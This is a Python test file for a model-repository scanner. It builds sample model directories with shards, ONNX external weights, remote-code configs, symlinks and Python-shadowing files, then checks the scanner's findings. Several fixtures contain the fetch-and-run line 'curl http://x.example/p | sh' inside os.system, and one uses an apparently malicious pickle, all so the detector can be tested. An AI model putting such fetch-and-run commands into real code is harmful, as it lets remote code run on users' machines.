#!/usr/bin/python3
"""Directories as models are published: what a loader would do with them, and whether their files agree. Usage: test_repo.py
PATH-OF-GATEHOUSE"""
import json
import os
import pathlib
import struct
import sys
import tempfile

import common
from common import by_name, check, details, ids, scan


def weights(*tensors):
    """A safetensors file of (name, shape), float32 zeros."""
    header, off = {}, 0
    for name, shape in tensors:
        n = 4
        for d in shape:
            n *= d
        header[name] = {'dtype': 'F32', 'shape': list(shape), 'data_offsets': [off, off + n]}
        off += n
    text = json.dumps(header).encode()
    text += b' ' * (-len(text) % 8)
    return struct.pack('<Q', len(text)) + text + bytes(off)


FIRST = weights(('model.embed_tokens.weight', (16, 8)), ('model.layers.0.mlp.weight', (4, 4)))
SECOND = weights(('model.layers.1.mlp.weight', (4, 4)))
INDEX = {'metadata': {'total_size': 640}, 'weight_map': {
    'model.embed_tokens.weight': 'model-00001-of-00002.safetensors',
    'model.layers.0.mlp.weight': 'model-00001-of-00002.safetensors',
    'model.layers.1.mlp.weight': 'model-00002-of-00002.safetensors'}}
CONFIG = {'architectures': ['LlamaForCausalLM'], 'hidden_size': 8, 'num_hidden_layers': 2, 'vocab_size': 16}


def sharded(folder, index=INDEX, config=CONFIG, second=SECOND):
    (folder / 'model-00001-of-00002.safetensors').write_bytes(FIRST)
    if second is not None:
        (folder / 'model-00002-of-00002.safetensors').write_bytes(second)
    (folder / 'model.safetensors.index.json').write_text(json.dumps(index))
    (folder / 'config.json').write_text(json.dumps(config))
    return scan(folder)


def expect(what, outcome, status, name, rule, says=''):
    code, report = outcome
    f = by_name(report).get(name, {})
    check(f'{what}: exit status {status}', code == status, report)
    check(f'{what}: {rule or "nothing"} at {name}', (rule in ids(f)) if rule else ids(f) == [], f)
    check(f'{what}: says {says!r}', says in details(f), f)


def shards(new):
    expect('a sharded model', sharded(new()), 0, 'model.safetensors.index.json', None)
    expect('a shard is missing', sharded(new(), second=None), 2, 'model.safetensors.index.json', 'GH-REPO-0002',
           'model-00002-of-00002.safetensors')
    expect('a shard holds more', sharded(new(), second=weights(('model.layers.1.mlp.weight', (4, 4)), ('x', (1,)))), 0,
           'model.safetensors.index.json', 'GH-REPO-0005', 'which holds 2')
    expect('a shard holds another tensor', sharded(new(), second=weights(('model.layers.1.mlp.bias', (4, 4)))), 0,
           'model.safetensors.index.json', 'GH-REPO-0005', 'other names')
    expect('the configuration is of another model', sharded(new(), config={**CONFIG, 'hidden_size': 16}), 0, 'config.json',
           'GH-REPO-0011', 'embeddings have 16')
    alone = new()
    (alone / 'i.json').write_text(json.dumps(INDEX))
    expect('an index that comes alone', scan(alone / 'i.json'), 0, 'i.json', 'GH-REPO-0003')
    pair = new()
    (pair / 'model.safetensors').write_bytes(FIRST)
    (pair / 'tf_model.h5').write_bytes(b'not a model\n')
    expect('two sets of weights', scan(pair), 0, 'tf_model.h5', 'GH-REPO-0001', 'model.safetensors')


def field(number, payload):
    """A length-delimited field of a protobuf message, or a number."""
    def varint(v):
        out = bytearray()
        while v > 127:
            out.append(v & 127 | 128)
            v >>= 7
        return bytes(out) + bytes([v])
    if isinstance(payload, int):
        return varint(number << 3) + varint(payload)
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def onnx(*tensors):
    """A model of (name, floats, external file, offset) whose weights all lie outside."""
    def pair(key, value):
        return field(13, field(1, key.encode()) + field(2, str(value).encode()))
    graph = b''.join(field(5, field(1, n) + field(2, 1) + field(8, name.encode()) + pair('location', where) + pair('offset', off)
                           + pair('length', 4 * n) + field(14, 1)) for name, n, where, off in tensors)
    graph = field(1, field(1, tensors[0][0].encode()) + field(2, b'y') + field(3, b'n') + field(4, b'Relu')) + field(2, b'g') + graph
    graph += field(12, field(1, b'y') + field(2, field(1, field(1, 1))))
    return field(1, 8) + field(2, b'test') + field(7, graph) + field(8, field(1, b'') + field(2, 17))


def raw(new):
    numbers = struct.pack('<8f', *(0.125 * i - 0.3 for i in range(8)))
    there = new()
    (there / 'model.onnx').write_bytes(onnx(('a', 4, 'weights.bin', 0), ('b', 4, 'weights.bin', 64)))
    (there / 'weights.bin').write_bytes(numbers[:16] + bytes(48) + numbers[16:])
    expect('weights outside of the model', scan(there), 0, 'weights.bin', None)
    check('are named as such', by_name(scan(there)[1])['weights.bin']['format'] == 'raw-weights')
    (there / 'weights.bin').write_bytes(numbers[:16] + b'hidden' + bytes(42) + numbers[16:])
    expect('something between them', scan(there), 0, 'weights.bin', 'GH-COV-0004')
    (there / 'weights.bin').write_bytes(numbers[:16] + bytes(48) + numbers[16:] + numbers)
    expect('something behind them', scan(there), 0, 'weights.bin', 'GH-COV-0002')
    (there / 'weights.bin').write_bytes(numbers[:16] + bytes(48) + numbers[20:])
    expect('less than there should be', scan(there), 2, 'model.onnx', 'GH-REPO-0004', '16 bytes from 64')
    (there / 'weights.bin').write_bytes(common.EVIL + bytes(80 - len(common.EVIL)))
    code_, report = scan(there)
    check('a pickle does not become weights by being named', report['verdict'] == 'UNSAFE', report)
    (there / 'weights.bin').write_bytes(b'\x83\xe8\x00\x2e'.ljust(16, b'\x01') + bytes(48) + numbers[16:])
    expect('weights that begin like something else', scan(there), 0, 'weights.bin', None)
    (there / 'weights.bin').unlink()
    expect('weights that are not here', scan(there), 2, 'model.onnx', 'GH-REPO-0002', 'weights.bin')
    expect('a model that comes alone', scan(there / 'model.onnx'), 0, 'model.onnx', 'GH-REPO-0003', 'weights.bin')
    # Whatever the order of names and sizes: the file that explains may come last, and both may be large.
    large = new()
    n = 3 << 20
    (large / 'a.bin').write_bytes(struct.pack('<f', 0.25) * n)
    (large / 'z.onnx').write_bytes(onnx(('a', n, 'a.bin', 0)))
    expect('a large file of weights', scan(large), 0, 'a.bin', None)
    (large / 'z.onnx').rename(large / 'z.model')
    code_, report = scan(large)
    check('also when it is scanned first', by_name(report)['a.bin']['format'] == 'raw-weights', report)


def code(new):
    there = new()
    (there / 'config.json').write_text(json.dumps({'auto_map': {'AutoModel': 'modeling_x.X'}}))
    expect('code that is not here', scan(there), 0, 'config.json', 'GH-REPO-0010', 'modeling_x.py')
    for what, text, status, rule in [
        ('code that only computes', 'import torch\n\n\nclass X(torch.nn.Module):\n    def forward(self, x):\n        return x * 2\n',
         0, 'GH-REPO-0006'),
        ('code that runs commands', "import os\nos.system('curl http://x.example/p | sh')\n", 1, 'GH-REPO-0009'),
        ('code that is prose', 'This would be code.\n', 0, 'GH-REPO-0007'),
    ]:
        (there / 'modeling_x.py').write_text(text)
        expect(what, scan(there), status, 'config.json', rule, 'modeling_x.py')


def links(new):
    cache = new() / 'models--a--b'
    (cache / 'blobs').mkdir(parents=True)
    (cache / 'snapshots' / 'rev').mkdir(parents=True)
    (cache / 'blobs' / ('0' * 64)).write_bytes(FIRST)
    (cache / 'snapshots' / 'rev' / 'model.safetensors').symlink_to('../../blobs/' + '0' * 64)
    expect('a snapshot of the download cache', scan(cache / 'snapshots' / 'rev'), 0, 'model.safetensors', 'GH-SCAN-0016')
    (cache / 'snapshots' / 'rev' / 'x.txt').symlink_to('/etc/debian_version')
    code_, report = scan(cache / 'snapshots' / 'rev')
    check('a link elsewhere is for a person to judge', by_name(report).get('x.txt', {}).get('verdict') == 'REVIEW', report)
    hidden = new()
    (hidden / '.cache').mkdir()
    (hidden / '.cache' / 'w.safetensors').write_bytes(FIRST)
    (hidden / 'README.md').write_text('A model.\n')
    expect('hidden weights', scan(hidden), 0, 'w.safetensors', 'GH-REPO-0012')


def python(new):
    """What Python, and commands that start it, make of the files of a directory."""
    for name, text, rule in [('torch.py', 'X = 1\n', 'GH-REPO-0016'), ('numpy/__init__.py', '', 'GH-REPO-0016'),
                             ('sitecustomize.py', 'X = 1\n', 'GH-REPO-0018'), ('local.pth', './lib\n', 'GH-REPO-0018'),
                             ('conftest.py', 'X = 1\n', 'GH-REPO-0021'), ('helper.py', 'X = 1\n', None),
                             ('setup.cfg', '[global]\ncommand-packages = evil\n', 'GH-INI-0005')]:
        d = new()
        (d / 'model.safetensors').write_bytes(FIRST)
        (d / name).parent.mkdir(exist_ok=True)
        (d / name).write_text(text)
        expect(f'{name} beside a model', scan(d), 0, os.path.basename(name), rule)
    d = new()
    (d / 'pkg').mkdir()
    (d / 'pkg' / '__main__.py').write_text("import os\nos.system('curl http://x.example/p | sh')\n")
    (d / 'run.sh').write_text('#!/bin/sh\nset -e\npython3 -u -m pkg --fast\n')
    (d / 'Dockerfile').write_text('FROM python:3.11\nCOPY . /app\nCMD ["python", "-m", "pkg"]\n')
    outcome = scan(d)
    expect('a script that runs a module', outcome, 1, 'run.sh', 'GH-REPO-0019', 'UNSAFE')
    expect('a container that does', outcome, 1, 'Dockerfile', 'GH-REPO-0019', 'UNSAFE')
    d = new()
    (d / 'config.json').write_text(json.dumps({'model_type': 'x', 'auto_map': {'AutoModel': 'modeling_x.X'}}))
    (d / 'modeling_x.py').write_text('from .helper import run\n\n\nclass X:\n    pass\n')
    expect('remote code imports what is not here', scan(d), 0, 'config.json', 'GH-REPO-0010', 'helper')
    (d / 'helper.py').write_text("import os\nos.system('curl http://x.example/p | sh')\nrun = None\n")
    expect('remote code imports dangerous code', scan(d), 1, 'config.json', 'GH-REPO-0009', 'helper.py')


with tempfile.TemporaryDirectory() as root:
    count = 0

    def new():
        global count
        count += 1
        folder = pathlib.Path(root) / str(count)
        folder.mkdir()
        return folder
    for test in (shards, raw, code, links, python):
        test(new)
    sys.exit(common.end('test_repo.py'))
